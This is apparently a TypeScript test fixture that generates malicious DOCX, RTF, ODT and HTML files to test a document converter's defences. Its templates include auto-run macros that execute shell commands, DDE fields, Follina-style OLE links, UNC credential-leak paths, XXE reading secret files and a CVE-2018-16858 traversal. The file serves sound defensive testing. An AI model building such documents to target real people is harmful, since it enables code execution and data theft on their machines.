import { sample } from '#test/documents/kit/converter.ts';
import { changedZip, docxOf, paragraph, picture, relations } from '#test/documents/kit/office-files.ts';
import { addToOdt, noise, text } from '../kit/hostile-file.ts';
import type { HostileFile } from '../kit/hostile-file.ts';

const RELS = 'word/_rels/document.xml.rels';
const field = (code: string) =>
  `<w:p><w:fldSimple w:instr="${code.replaceAll('"', '&quot;')}"><w:r><w:t>текст</w:t></w:r></w:fldSimple></w:p>`;
const rtfField = (code: string) => text(`{\\rtf1\\ansi text\\par{\\field{\\*\\fldinst ${code}}{\\fldrslt text}}\\par}`);
const html = (head: string, body: string) => text(`<html><head>${head}</head><body><p>text</p>${body}</body></html>`);

async function odt(element: string, more: Readonly<Record<string, string>> = {}): Promise<Uint8Array> {
  return changedZip(await sample('opredelenie.odt'), (files) => {
    const content = new TextDecoder().decode(files['content.xml']);
    files['content.xml'] = text(content.replace('</office:text>', `${element}</office:text>`));
    addToOdt(files, more);
  });
}

const settings =
  '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>';
const template = (target: string) =>
  docxOf(paragraph('текст'), {
    'word/settings.xml': settings,
    [RELS]: relations([['settings', 'settings.xml']]),
    'word/_rels/settings.xml.rels': relations([['attachedTemplate', target, 'External']]),
  });
const ole = (target: string, type = 'oleObject') =>
  docxOf(
    paragraph('текст') +
      '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Word.Document.8" r:id="rId1" UpdateMode="Always"/></w:object></w:r></w:p>',
    { [RELS]: relations([[type, target, 'External']]) },
  );

const MACRO = (command: string) => `Sub AutoOpen\n Shell("/bin/sh",0,"-c '${command}'")\nEnd Sub\n`;
const event = (target: string, name: string) =>
  `<script:event-listener script:language="ooo:script" script:event-name="${name}" xlink:href="vnd.sun.star.script:${target}" xlink:type="simple"/>`;

function odtMacro(language: string, target: string, files: Readonly<Record<string, string>>, name = 'dom:load') {
  return async () =>
    changedZip(await sample('opredelenie.odt'), (parts) => {
      const content = new TextDecoder().decode(parts['content.xml']);
      const scripts = `<office:scripts><office:event-listeners xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0">${event(`${target}&amp;language=${language}&amp;location=document`, name)}</office:event-listeners></office:scripts>`;
      parts['content.xml'] = text(content.replace(/<office:scripts\/>|(?=<office:font-face-decls)/, scripts));
      addToOdt(parts, files);
    });
}

const BASIC = (command: string) => ({
  'Basic/script-lc.xml':
    '<?xml version="1.0"?><library:libraries xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" library:link="false"/></library:libraries>',
  'Basic/Standard/script-lb.xml':
    '<?xml version="1.0"?><library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard"><library:element library:name="M"/></library:library>',
  'Basic/Standard/M.xml': `<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script" script:name="M" script:language="StarBasic">${MACRO(command).replaceAll('"', '&quot;')}</script:module>`,
});
const PYTHON = (command: string) => ({ 'Scripts/python/m.py': `import os\ndef run(*a):\n  os.system("${command}")\n` });
const SCRIPT = (command: string) => ({
  'Scripts/javascript/L/m.js': `java.lang.Runtime.getRuntime().exec(["/bin/sh","-c","${command}"])`,
});

/** Whatever leads out of the file. */
const OUT: readonly HostileFile[] = [
  { name: 'template.docx', attack: 'внешний шаблон', make: ({ url }) => template(`${url}/t.dotm`) },
  {
    name: 'template-file.docx',
    attack: 'шаблон из чужого файла',
    make: ({ secretPath }) => template(`file://${secretPath}`),
  },
  {
    name: 'template-unc.docx',
    attack: 'шаблон по сетевому имени (утечка пароля Windows)',
    make: () => template('\\\\127.0.0.1\\share\\t.dotm'),
  },
  {
    name: 'image.docx',
    attack: 'внешняя картинка',
    make: ({ url }) =>
      docxOf(picture('rId1', 'link') + paragraph('а'), { [RELS]: relations([['image', `${url}/i.png`, 'External']]) }),
  },
  {
    name: 'image-file.docx',
    attack: 'картинка из чужого файла',
    make: ({ secretPath }) =>
      docxOf(picture('rId1', 'link') + paragraph('а'), {
        [RELS]: relations([['image', `file://${secretPath}`, 'External']]),
      }),
  },
  { name: 'ole-link.docx', attack: 'связь OLE наружу', make: ({ url }) => ole(`${url}/o.doc`) },
  {
    name: 'ole-html.docx',
    attack: 'связь OLE mhtml (Follina)',
    make: ({ url }) => ole(`mhtml:${url}/o.html!x-usc:${url}/o.html`),
  },
  {
    name: 'frame.docx',
    attack: 'внешняя рамка',
    make: ({ url }) => docxOf(paragraph('а'), { [RELS]: relations([['frame', `${url}/f`, 'External']]) }),
  },
  {
    name: 'altchunk.docx',
    attack: 'внешний кусок текста (altChunk)',
    make: ({ url }) =>
      docxOf(`<w:altChunk r:id="rId1"/>${paragraph('а')}`, {
        [RELS]: relations([['aFChunk', `${url}/c.html`, 'External']]),
      }),
  },
  {
    name: 'subdocument.docx',
    attack: 'внешний вложенный документ',
    make: ({ secretPath }) =>
      docxOf(`<w:subDoc r:id="rId1"/>${paragraph('а')}`, {
        [RELS]: relations([['subDocument', `file://${secretPath}`, 'External']]),
      }),
  },
  ...['INCLUDEPICTURE', 'INCLUDETEXT', 'IMPORT', 'LINK'].map((word): HostileFile => ({
    name: `field-${word.toLowerCase()}.docx`,
    attack: `поле ${word}`,
    make: ({ url }) => docxOf(field(`${word} "${url}/x" \\d`)),
  })),
  {
    name: 'field-includetext-file.docx',
    attack: 'поле INCLUDETEXT с чужим файлом',
    make: ({ secretPath }) => docxOf(field(`INCLUDETEXT "${secretPath}"`)),
  },
  ...['DDE', 'DDEAUTO'].map((word): HostileFile => ({
    name: `field-${word.toLowerCase()}.docx`,
    attack: `поле ${word}: запуск команды`,
    make: ({ command }) => docxOf(field(`${word} /bin/sh "-c '${command}'"`)),
  })),
  ...['DDE', 'DDEAUTO', 'INCLUDEPICTURE', 'INCLUDETEXT', 'LINK'].map((word): HostileFile => ({
    name: `field-${word.toLowerCase()}.rtf`,
    attack: `поле ${word}`,
    make: ({ url, command }) =>
      rtfField(word.startsWith('DDE') ? `${word} /bin/sh "-c '${command}'"` : `${word} "${url}/x" \\\\d`),
  })),
  {
    name: 'template.rtf',
    attack: 'внешний шаблон',
    make: ({ url }) => text(`{\\rtf1\\ansi{\\*\\template ${url}/t.dot}text\\par}`),
  },
  {
    name: 'objdata.rtf',
    attack: 'вложенный объект OLE с программой',
    make: () =>
      text(
        `{\\rtf1\\ansi text{\\object\\objemb\\objupdate{\\*\\objclass Package}{\\*\\objdata ${noise(4_000, 11).toString('hex')}}}\\par}`,
      ),
  },
  {
    name: 'equation.rtf',
    attack: 'объект Equation.3 (переполнение)',
    make: () =>
      text(
        `{\\rtf1\\ansi text{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata 0105000002000000${'41'.repeat(5_000)}}}\\par}`,
      ),
    refusedBecause: 'объект заявляет о размере в 1 ГиБ: предел памяти',
  },
  {
    name: 'pict.rtf',
    attack: 'картинка с огромной длиной двоичных данных',
    make: () => text('{\\rtf1\\ansi text{\\pict\\pngblip\\picw99999999\\pich99999999\\bin2147483647 xx}\\par}'),
  },
  {
    name: 'image.odt',
    attack: 'внешняя картинка',
    make: ({ url }) =>
      odt(
        `<text:p><draw:frame svg:width="5cm" svg:height="5cm" text:anchor-type="as-char"><draw:image xlink:href="${url}/i.png" xlink:type="simple"/></draw:frame></text:p>`,
      ),
  },
  {
    name: 'image-file.odt',
    attack: 'картинка из чужого файла',
    make: ({ secretPath }) =>
      odt(
        `<text:p><draw:frame svg:width="5cm" svg:height="5cm" text:anchor-type="as-char"><draw:image xlink:href="file://${secretPath}" xlink:type="simple"/></draw:frame></text:p>`,
      ),
  },
  {
    name: 'section.odt',
    attack: 'раздел из чужого файла',
    make: ({ secretPath }) =>
      odt(
        `<text:section text:name="s"><text:section-source xlink:href="file://${secretPath}"/><text:p>а</text:p></text:section>`,
      ),
  },
  {
    name: 'section-net.odt',
    attack: 'раздел из сети',
    make: ({ url }) =>
      odt(
        `<text:section text:name="s"><text:section-source xlink:href="${url}/s.odt"/><text:p>а</text:p></text:section>`,
      ),
  },
  {
    name: 'object.odt',
    attack: 'внешний объект',
    make: ({ url }) =>
      odt(
        `<text:p><draw:frame svg:width="5cm" svg:height="5cm" text:anchor-type="as-char"><draw:object xlink:href="${url}/o.odt" xlink:type="simple"/></draw:frame></text:p>`,
      ),
  },
  {
    name: 'frame.odt',
    attack: 'плавающая рамка',
    make: ({ url }) =>
      odt(
        `<text:p><draw:frame svg:width="5cm" svg:height="5cm" text:anchor-type="as-char"><draw:floating-frame xlink:href="${url}/f.html" xlink:type="simple"/></draw:frame></text:p>`,
      ),
  },
  {
    name: 'dde.odt',
    attack: 'раздел DDE',
    make: ({ command }) =>
      odt(
        `<text:section text:name="d"><office:dde-source office:dde-application="/bin/sh" office:dde-topic="-c" office:dde-item="${command}" office:automatic-update="true"/><text:p>а</text:p></text:section>`,
      ),
  },
  {
    name: 'image.html',
    attack: 'HTML под видом DOC: внешняя картинка',
    make: ({ url }) => html('', `<img src="${url}/i.png">`),
  },
  {
    name: 'style.html',
    attack: 'HTML: внешний стиль',
    make: ({ url }) => html(`<link rel="stylesheet" href="${url}/s.css"><style>@import url(${url}/t.css);</style>`, ''),
  },
  {
    name: 'frame.html',
    attack: 'HTML: рамка с чужим файлом',
    make: ({ secretPath }) =>
      html('', `<iframe src="file://${secretPath}"></iframe><object data="file://${secretPath}"></object>`),
  },
  {
    name: 'script.html',
    attack: 'HTML: сценарий и переход',
    make: ({ url }) =>
      html(
        `<meta http-equiv="refresh" content="0;url=${url}/r"><script src="${url}/s.js"></script>`,
        `<script>fetch("${url}")</script><form action="${url}"></form>`,
      ),
  },
  {
    name: 'svg.odt',
    attack: 'SVG с XXE внутри',
    make: ({ secretPath, url }) =>
      odt(
        '<text:p><draw:frame svg:width="5cm" svg:height="5cm" text:anchor-type="as-char"><draw:image xlink:href="Pictures/a.svg" xlink:type="simple"/></draw:frame></text:p>',
        {
          'Pictures/a.svg': `<!DOCTYPE s [<!ENTITY x SYSTEM "file://${secretPath}">]><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100"><image xlink:href="${url}/s.png" width="9" height="9"/><text y="20">&x;</text></svg>`,
        },
      ),
  },
  {
    name: 'svg-as-png.docx',
    attack: 'SVG с внешней ссылкой под именем PNG',
    make: ({ url }) =>
      docxOf(picture('rId1', 'embed') + paragraph('а'), {
        [RELS]: relations([['image', 'media/a.png']]),
        'word/media/a.png': `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="99" height="99"><image xlink:href="${url}/s.png" width="9" height="9"/></svg>`,
      }),
  },
];

/** Whatever would run. */
const RUN: readonly HostileFile[] = [
  {
    name: 'docm.docx',
    attack: 'макрос VBA (docm под именем docx)',
    make: () => docxOf(paragraph('текст'), { 'word/vbaProject.bin': noise(20_000, 12) }),
  },
  {
    name: 'activex.docx',
    attack: 'элемент ActiveX',
    make: () => docxOf(paragraph('текст'), { 'word/activeX/activeX1.bin': noise(3_000, 13) }),
  },
  {
    name: 'package.docx',
    attack: 'вложенная программа (OLE Package)',
    make: () =>
      docxOf(paragraph('текст'), {
        'word/embeddings/oleObject1.bin': Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), noise(9_000, 14)]),
      }),
  },
  {
    name: 'basic.odt',
    attack: 'макрос Basic при открытии',
    make: (canary) => odtMacro('Basic', 'Standard.M.AutoOpen?', BASIC(canary.command))().then((bytes) => bytes),
  },
  {
    name: 'basic-print.odt',
    attack: 'макрос Basic при выводе',
    make: (canary) => odtMacro('Basic', 'Standard.M.AutoOpen?', BASIC(canary.command), 'office:print')(),
  },
  {
    name: 'python.odt',
    attack: 'сценарий Python при открытии',
    make: (canary) => odtMacro('Python', 'm.py$run?', PYTHON(canary.command))(),
  },
  {
    name: 'javascript.odt',
    attack: 'сценарий JavaScript при открытии',
    make: (canary) => odtMacro('JavaScript', 'L.m.js?', SCRIPT(canary.command))(),
  },
  {
    name: 'python-traversal.odt',
    attack: 'сценарий Python вне документа (CVE-2018-16858)',
    make: () => odtMacro('Python', '../../../program/python-core/lib/pydoc.py$tempfilepager?', {})(),
  },
  {
    name: 'hlinkclick.odt',
    attack: 'ссылка, запускающая программу',
    make: ({ command }) =>
      odt(
        `<text:p><text:a xlink:type="simple" xlink:href="vnd.sun.star.script:${command}?language=Basic">текст</text:a></text:p>`,
      ),
  },
  {
    name: 'vba.doc',
    attack: 'DOC, обозначенный как содержащий VBA',
    make: async () => Buffer.concat([await sample('povestka.doc'), text('Attribute VB_Name = "AutoOpen"')]),
  },
];

export const ACTIVE: readonly HostileFile[] = [...OUT, ...RUN];
